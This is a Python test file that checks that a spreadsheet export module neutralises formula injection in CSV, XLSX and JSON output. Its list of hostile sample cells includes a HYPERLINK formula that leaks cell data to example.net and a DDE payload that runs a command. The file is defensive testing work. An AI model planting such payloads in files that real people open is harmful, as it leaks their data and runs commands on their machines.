"""One writer for every file a person opens in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pandas as pd
from openpyxl import load_workbook

from data_model.spreadsheets import csv_bytes, frame_bytes, json_text, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://example.net/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "team": [*HOSTILE, "Platform"],
            "hours": [1.5] * len(HOSTILE) + [None],
            "on": [date(2026, 12, 3)] * (len(HOSTILE) + 1),
        }
    )


def test_every_formula_start_gets_an_apostrophe_and_other_text_is_untouched():
    assert [neutralise(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert neutralise("Platform = core") == "Platform = core"
    assert neutralise("") == ""


def test_csv_cells_are_neutralised_with_iso_dates_and_blank_missing_values():
    rows = list(csv.reader(io.StringIO(csv_bytes(frame()).decode("utf-8"))))
    assert rows[0] == ["team", "hours", "on"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE] + ["Platform"]
    assert rows[-1] == ["Platform", "", "2026-12-03"]
    assert rows[1][1:] == ["1.5", "2026-12-03"]


def test_a_hostile_header_is_neutralised_too():
    text = csv_bytes(pd.DataFrame({"=1+1": [1]})).decode("utf-8")
    assert text.splitlines()[0] == "'=1+1"


def test_xlsx_has_no_formula_anywhere_and_keeps_the_text_as_typed():
    data = xlsx_bytes(frame())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
    cells = load_workbook(io.BytesIO(data)).active
    column = [c.value for c in cells["A"]][1:]
    assert column == [t.replace("\r", "\n") for t in HOSTILE] + ["Platform"]  # XML keeps no bare CR
    assert {c.data_type for c in cells["A"]} == {"s"}
    assert cells["B2"].value == 1.5 and cells["B9"].value is None


def test_json_is_plain_values():
    records = json.loads(json_text(frame()))
    assert records[0] == {"team": HOSTILE[0], "hours": 1.5, "on": "2026-12-03"}
    assert records[-1]["hours"] is None


def test_decimals_timestamps_and_booleans_read_plainly():
    when = datetime(2026, 12, 3, 9, 30, tzinfo=UTC)
    data = pd.DataFrame({"cost": [Decimal("450.00")], "at": [when], "active": [True]})
    assert frame_bytes(data, "csv").decode().splitlines()[1] == "450.00,2026-12-03T09:30:00+00:00,true"
